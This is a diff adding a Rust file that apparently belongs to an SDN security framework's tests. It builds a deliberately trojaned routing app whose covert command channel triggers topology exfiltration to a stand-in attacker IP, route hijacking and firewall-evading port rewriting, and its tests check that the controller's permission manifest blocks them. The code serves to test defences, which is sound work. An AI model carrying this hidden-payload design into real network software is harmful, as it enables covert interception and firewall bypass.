@@ -1,0 +1,316 @@
+//! Scenario 2 (paper §VII): a *malicious routing app*.
+//!
+//! The app "implements shortest path routing in normal cases, but stealthily
+//! launches control-plane attacks at times". The malicious side is driven by
+//! a command channel, mirroring an embedded trigger.
+
+use std::sync::Arc;
+
+use bytes::Bytes;
+use crossbeam::channel::{unbounded, Receiver, Sender};
+use parking_lot::Mutex;
+
+use sdnshield_controller::app::{App, AppCtx};
+use sdnshield_controller::events::Event;
+use sdnshield_core::api::EventKind;
+use sdnshield_core::token::PermissionToken;
+use sdnshield_openflow::actions::{Action, ActionList};
+use sdnshield_openflow::flow_match::FlowMatch;
+use sdnshield_openflow::messages::FlowMod;
+use sdnshield_openflow::packet::{EthPayload, EthernetFrame};
+use sdnshield_openflow::types::{DatapathId, EthAddr, Ipv4, PortNo, Priority};
+
+/// The §VII scenario-2 manifest: forwarding-only inserts on own flows.
+pub const ROUTING_MANIFEST: &str = "\
+PERM visible_topology
+PERM pkt_in_event
+PERM read_payload
+PERM flow_event
+PERM send_pkt_out
+PERM insert_flow LIMITING ACTION FORWARD AND OWN_FLOWS
+";
+
+/// Hidden commands the malicious payload can receive.
+#[derive(Debug, Clone)]
+pub enum MaliciousCommand {
+    /// Class 2: call home with the topology.
+    Exfiltrate {
+        /// Attacker address.
+        to: Ipv4,
+        /// Attacker port.
+        port: u16,
+    },
+    /// Class 3: overwrite routes so `victim_dst` traffic detours through
+    /// `via` (a man-in-the-middle).
+    HijackRoute {
+        /// The destination whose traffic is stolen.
+        victim_dst: Ipv4,
+        /// Switch and port to detour through.
+        via: (DatapathId, PortNo),
+    },
+    /// Class 4: tunnel firewall-blocked traffic by rewriting ports at both
+    /// ends (dynamic-flow tunneling).
+    TunnelFirewall {
+        /// The switch the firewall rules live on.
+        firewall: DatapathId,
+        /// The blocked destination port.
+        blocked_port: u16,
+        /// The allowed destination port to masquerade as.
+        allowed_port: u16,
+        /// Egress toward the destination.
+        out_port: PortNo,
+    },
+}
+
+/// Outcome of one malicious attempt.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct AttackOutcome {
+    /// Label.
+    pub attack: String,
+    /// Whether the controller allowed it.
+    pub succeeded: bool,
+}
+
+/// Driving handle for tests.
+#[derive(Clone)]
+pub struct Trigger {
+    /// Queue malicious commands.
+    pub commands: Sender<MaliciousCommand>,
+    /// Observed outcomes.
+    pub outcomes: Arc<Mutex<Vec<AttackOutcome>>>,
+}
+
+/// The routing app: honest shortest-path forwarding + hidden payload.
+pub struct RoutingApp {
+    commands: Receiver<MaliciousCommand>,
+    outcomes: Arc<Mutex<Vec<AttackOutcome>>>,
+    /// Paths installed by honest routing (tests).
+    paths_installed: u64,
+}
+
+impl RoutingApp {
+    /// Creates the app and its (covert) trigger handle.
+    pub fn new() -> (Self, Trigger) {
+        let (tx, rx) = unbounded();
+        let outcomes = Arc::new(Mutex::new(Vec::new()));
+        (
+            RoutingApp {
+                commands: rx,
+                outcomes: Arc::clone(&outcomes),
+                paths_installed: 0,
+            },
+            Trigger {
+                commands: tx,
+                outcomes,
+            },
+        )
+    }
+
+    fn record(&self, attack: &str, succeeded: bool) {
+        self.outcomes.lock().push(AttackOutcome {
+            attack: attack.to_owned(),
+            succeeded,
+        });
+    }
+
+    /// Honest duty: install a shortest path for the packet's source→dest
+    /// pair and release the packet along it.
+    fn route(&mut self, ctx: &AppCtx, dpid: DatapathId, frame: &EthernetFrame) {
+        let Ok(view) = ctx.read_topology() else {
+            return;
+        };
+        let (src_ip, dst_ip) = match &frame.payload {
+            EthPayload::Ipv4(ip) => (ip.src, ip.dst),
+            EthPayload::Arp(arp) => (arp.sender_ip, arp.target_ip),
+            _ => return,
+        };
+        let Some(dst_host) = view.host_by_ip(dst_ip) else {
+            return;
+        };
+        let dst_host = dst_host.clone();
+        let _ = src_ip;
+        let Some(path) = view.shortest_path(dpid, dst_host.switch) else {
+            return;
+        };
+        let m = FlowMatch::default().with_ip_dst(dst_ip);
+        let mut all_ok = true;
+        for window in path.windows(2) {
+            let Some(port) = view.port_toward(window[0], window[1]) else {
+                all_ok = false;
+                continue;
+            };
+            if ctx
+                .insert_flow(
+                    window[0],
+                    FlowMod::add(m.clone(), Priority(100), ActionList::output(port)),
+                )
+                .is_err()
+            {
+                all_ok = false;
+            }
+        }
+        // Egress hop to the host port.
+        if ctx
+            .insert_flow(
+                dst_host.switch,
+                FlowMod::add(m, Priority(100), ActionList::output(dst_host.port)),
+            )
+            .is_err()
+        {
+            all_ok = false;
+        }
+        if all_ok {
+            self.paths_installed += 1;
+        }
+        // Release the pending packet toward the next hop (or the host).
+        let next_port = path
+            .windows(2)
+            .next()
+            .and_then(|w| view.port_toward(w[0], w[1]))
+            .unwrap_or(dst_host.port);
+        let _ = ctx.packet_out_port(dpid, next_port, frame.to_bytes());
+    }
+
+    fn run_command(&self, ctx: &AppCtx, cmd: MaliciousCommand) {
+        match cmd {
+            MaliciousCommand::Exfiltrate { to, port } => {
+                let ok = match ctx.host_connect(to, port) {
+                    Ok(conn) => {
+                        let payload = match ctx.read_topology() {
+                            Ok(view) => format!("topology: {} switches", view.switches.len()),
+                            Err(_) => "no topology".to_owned(),
+                        };
+                        ctx.host_send(conn, Bytes::from(payload)).is_ok()
+                    }
+                    Err(_) => false,
+                };
+                self.record("exfiltrate", ok);
+            }
+            MaliciousCommand::HijackRoute { victim_dst, via } => {
+                // Shadow existing (possibly foreign) rules with a higher-
+                // priority detour.
+                let fm = FlowMod::add(
+                    FlowMatch::default().with_ip_dst(victim_dst),
+                    Priority(900),
+                    ActionList::output(via.1),
+                );
+                let ok = ctx.insert_flow(via.0, fm).is_ok();
+                self.record("hijack_route", ok);
+            }
+            MaliciousCommand::TunnelFirewall {
+                firewall,
+                blocked_port,
+                allowed_port,
+                out_port,
+            } => {
+                // Entry: disguise blocked traffic as the allowed port.
+                let entry = FlowMod::add(
+                    FlowMatch::default().with_tp_dst(blocked_port),
+                    Priority(950),
+                    ActionList(vec![
+                        Action::SetTpDst(allowed_port),
+                        Action::Output(out_port),
+                    ]),
+                );
+                let ok = ctx.insert_flow(firewall, entry).is_ok();
+                self.record("flow_tunnel", ok);
+            }
+        }
+    }
+}
+
+impl App for RoutingApp {
+    fn name(&self) -> &str {
+        "routing"
+    }
+
+    fn required_tokens(&self) -> Vec<PermissionToken> {
+        vec![
+            PermissionToken::VisibleTopology,
+            PermissionToken::PktInEvent,
+            PermissionToken::InsertFlow,
+        ]
+    }
+
+    fn on_start(&mut self, ctx: &AppCtx) {
+        ctx.subscribe(EventKind::PacketIn).expect("pkt_in_event");
+        let _ = ctx.subscribe(EventKind::Flow);
+    }
+
+    fn on_event(&mut self, ctx: &AppCtx, event: &Event) {
+        // Hidden payload first: drain any pending commands.
+        while let Ok(cmd) = self.commands.try_recv() {
+            self.run_command(ctx, cmd);
+        }
+        // Honest routing duty.
+        if let Event::PacketIn { dpid, packet_in } = event {
+            if let Ok(frame) = EthernetFrame::from_bytes(packet_in.payload.clone()) {
+                if frame.dst != EthAddr::BROADCAST {
+                    self.route(ctx, *dpid, &frame);
+                }
+            }
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use bytes::Bytes;
+    use sdnshield_controller::isolation::ShieldedController;
+    use sdnshield_core::lang::parse_manifest;
+    use sdnshield_netsim::network::Network;
+    use sdnshield_netsim::topology::builders;
+    use sdnshield_openflow::packet::TcpFlags;
+
+    fn tcp(src: u64, dst: u64) -> EthernetFrame {
+        EthernetFrame::tcp(
+            EthAddr::from_u64(src),
+            EthAddr::from_u64(dst),
+            Ipv4::new(10, 0, 0, src as u8),
+            Ipv4::new(10, 0, 0, dst as u8),
+            1234,
+            80,
+            TcpFlags::default(),
+            Bytes::new(),
+        )
+    }
+
+    #[test]
+    fn honest_routing_installs_paths_and_delivers() {
+        let c = ShieldedController::new(Network::new(builders::linear(3), 1024), 4);
+        let (app, _trigger) = RoutingApp::new();
+        c.register(Box::new(app), &parse_manifest(ROUTING_MANIFEST).unwrap())
+            .unwrap();
+        c.inject_host_frame(tcp(1, 3));
+        c.quiesce();
+        // Path rules installed along 1→2→3.
+        let total: usize = (1..=3).map(|d| c.kernel().flow_count(DatapathId(d))).sum();
+        assert!(total >= 3, "expected path rules, got {total}");
+        // The released packet reached host 3.
+        let delivered = c.kernel().host_received(EthAddr::from_u64(3));
+        assert_eq!(delivered.len(), 1);
+        c.shutdown();
+    }
+
+    #[test]
+    fn exfiltration_blocked_by_missing_host_network() {
+        let c = ShieldedController::new(Network::new(builders::linear(2), 1024), 4);
+        let (app, trigger) = RoutingApp::new();
+        c.register(Box::new(app), &parse_manifest(ROUTING_MANIFEST).unwrap())
+            .unwrap();
+        trigger
+            .commands
+            .send(MaliciousCommand::Exfiltrate {
+                to: Ipv4::new(203, 0, 113, 66),
+                port: 443,
+            })
+            .unwrap();
+        c.inject_host_frame(tcp(1, 2));
+        c.quiesce();
+        let outcomes = trigger.outcomes.lock().clone();
+        assert_eq!(outcomes.len(), 1);
+        assert!(!outcomes[0].succeeded, "exfiltration must be denied");
+        c.shutdown();
+    }
+}
